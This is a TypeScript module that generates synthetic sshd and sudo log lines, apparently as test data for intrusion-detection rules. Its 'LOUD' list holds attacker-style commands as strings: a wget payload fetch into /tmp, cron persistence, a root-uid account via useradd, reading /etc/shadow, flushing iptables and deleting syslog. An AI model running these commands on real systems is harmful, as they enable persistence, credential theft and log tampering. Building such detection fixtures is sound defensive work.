import type { Dice } from "./generators.ts";

const two = (value: number) => String(value).padStart(2, "0");
/** Some twenty lines a second, as a busy host writes them. */
export const clock = (at: number) => `${two(Math.floor(at / 72_000) % 24)}:${two(Math.floor(at / 1200) % 60)}:${two(Math.floor(at / 20) % 60)}`;
export const address = (dice: Dice) => `198.51.${dice.below(16)}.${dice.below(256)}`;
export const port = (dice: Dice) => 1024 + dice.below(60_000);

const SSHD: readonly ((dice: Dice) => string)[] = [
  (dice) => `Failed password for root from ${address(dice)} port ${port(dice)} ssh2`,
  (dice) => `Failed password for invalid user u${dice.below(500)} from ${address(dice)} port ${port(dice)} ssh2`,
  (dice) => `Invalid user u${dice.below(500)} from ${address(dice)} port ${port(dice)}`,
  (dice) => `Received disconnect from ${address(dice)} port ${port(dice)}:11: Bye Bye [preauth]`,
  (dice) => `Connection closed by ${address(dice)} port ${port(dice)} [preauth]`,
  (dice) => `Accepted publickey for deploy from 192.0.2.7 port ${port(dice)} ssh2: ED25519 SHA256:x`,
  (dice) => `pam_unix(sshd:session): session opened for user u${dice.below(50)}(uid=1000) by (uid=0)`,
];
const COMMANDS: readonly ((dice: Dice) => string)[] = [
  (dice) => `/usr/bin/systemctl restart app${dice.below(20)}`,
  (dice) => `/usr/bin/journalctl -u app${dice.below(20)} --since today`,
  (dice) => `/usr/bin/apt-get install -y libfoo${dice.below(20)}`,
  (dice) => `/usr/bin/tail -n 100 /srv/app${dice.below(20)}/app.log`,
];
/** What published rules are written for. */
const LOUD: readonly ((dice: Dice) => string)[] = [
  (dice) => `/usr/bin/crontab /tmp/hourly${dice.below(9)}`,
  (dice) => `/usr/bin/crontab /tmp/job${dice.below(9)}`,
  (dice) => `/usr/bin/chattr -i /etc/passwd${dice.below(9)}`,
  () => "/usr/sbin/iptables -F",
  (dice) => `/usr/bin/wget http://203.0.113.7/a${dice.below(9)} -O /tmp/a`,
  (dice) => `/usr/sbin/useradd -o -u 0 ops${dice.below(9)}`,
  () => "/usr/bin/cat /etc/shadow",
  (dice) => `/usr/bin/rm -rf /var/log/syslog${dice.below(9)}`,
];

/** A line of sshd or, one in three, of sudo; of a thousand, so many are remarkable. */
export function textLine(dice: Dice, at: number, perMille: number): string {
  const begin = `Mar 13 ${clock(at)} web${dice.below(8)} `;
  const loud = dice.chance(perMille);
  if (!loud && dice.below(3) > 0) return `${begin}sshd[${1000 + dice.below(9000)}]: ${dice.pick(SSHD)(dice)}`;
  return `${begin}sudo:     u${dice.below(50)} : TTY=pts/${dice.below(9)} ; PWD=/home/u ; USER=root ; COMMAND=${dice.pick(loud ? LOUD : COMMANDS)(dice)}`;
}
